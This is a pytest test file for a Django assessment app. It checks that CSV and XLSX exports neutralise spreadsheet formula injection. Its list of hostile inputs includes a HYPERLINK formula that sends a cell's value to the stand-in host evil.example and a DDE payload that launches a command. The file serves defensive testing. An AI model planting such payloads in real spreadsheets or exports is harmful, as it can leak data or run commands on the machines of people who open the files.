"""CSV and XLSX exports never carry a live formula, whatever analysts typed."""

import csv
import io

import openpyxl
import pytest
from django.urls import reverse

from apps.assessments.services import evidence_add, hypothesis_create
from tests import factories

pytestmark = pytest.mark.django_db

HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
]


@pytest.fixture
def hostile_assessment(team, analyst):
    assessment = factories.assessment_with_matrix(team=team, user=analyst, evidence=0)
    hypothesis_create(assessment=assessment, user=analyst, statement="=1+2")
    evidence_add(
        assessment=assessment,
        user=analyst,
        items=[
            # A source is one line (control characters are refused at every door); a summary may hold them.
            {
                "summary": text,
                "source": text.lstrip("\t\r"),
                "citation": "@cite",
                "credibility": "medium",
                "relevance": "medium",
            }
            for text in HOSTILE
        ],
        via="test",
    )
    return assessment


def test_csv_export_prefixes_every_formula_like_cell_with_an_apostrophe(client, analyst, hostile_assessment):
    client.force_login(analyst)
    body = client.get(reverse("ach:export", args=[hostile_assessment.pk, "csv"])).content.decode()
    rows = list(csv.reader(io.StringIO(body)))[1:]
    assert [row[1] for row in rows] == ["'" + text for text in HOSTILE]
    assert all(row[2].startswith("'") and row[3] == "'@cite" for row in rows)


def test_xlsx_export_writes_hostile_text_as_neutralised_strings(client, analyst, hostile_assessment):
    client.force_login(analyst)
    content = client.get(reverse("ach:export", args=[hostile_assessment.pk, "xlsx"])).content
    workbook = openpyxl.load_workbook(io.BytesIO(content))
    cells = [cell for sheet in workbook.worksheets for row in sheet.iter_rows() for cell in row]
    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
    summaries = [row[1].value for row in workbook["Evidence"].iter_rows(min_row=2)]
    # XML stores a carriage return as a newline.
    assert summaries == ["'" + text.replace("\r", "\n") for text in HOSTILE]
    statements = [row[1].value for row in workbook["Scores"].iter_rows(min_row=2)]
    assert "'=1+2" in statements
    assert all(row[1].data_type == "s" for row in workbook["Evidence"].iter_rows(min_row=2))
